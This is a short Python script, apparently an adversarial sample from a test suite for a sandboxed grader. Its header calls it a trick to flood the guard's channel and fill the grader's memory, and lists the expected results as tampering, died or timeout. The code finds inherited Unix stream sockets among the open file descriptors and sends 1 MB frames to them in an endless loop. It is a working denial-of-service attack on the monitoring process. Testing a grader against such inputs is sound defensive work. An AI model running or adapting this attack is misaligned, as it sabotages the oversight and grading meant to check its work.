# trick: floods the guard's channel with well-formed frames, to fill the grader's memory
# reported: tampering|died|timeout
import os
import socket
import struct

frame = struct.pack(">I", 1_000_000) + bytes(1_000_000)
found = []
for number in range(3, 200):
    try:
        one = socket.socket(fileno=os.dup(number))
        if one.family == socket.AF_UNIX and one.type == socket.SOCK_STREAM and not one.getsockname():
            found.append(one)
    except OSError:
        continue
while True:
    for one in found:
        one.sendall(frame)
